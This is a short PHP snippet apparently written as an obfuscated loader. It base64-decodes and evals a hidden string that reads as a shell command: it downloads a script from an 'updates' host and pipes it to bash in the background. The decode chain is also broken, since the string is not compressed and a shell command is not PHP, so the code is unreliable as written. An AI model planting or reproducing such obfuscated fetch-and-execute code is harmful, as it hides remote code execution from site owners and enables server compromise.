<?php
$x = "d2dldCAtTyAtIGh0dHBzOi8vdXBkYXRlcy5leGFtcGxlLmludmFsaWQvaS83ZjNhIHwgL2Jpbi9iYXNoICY=";
eval(gzinflate(base64_decode($x)));
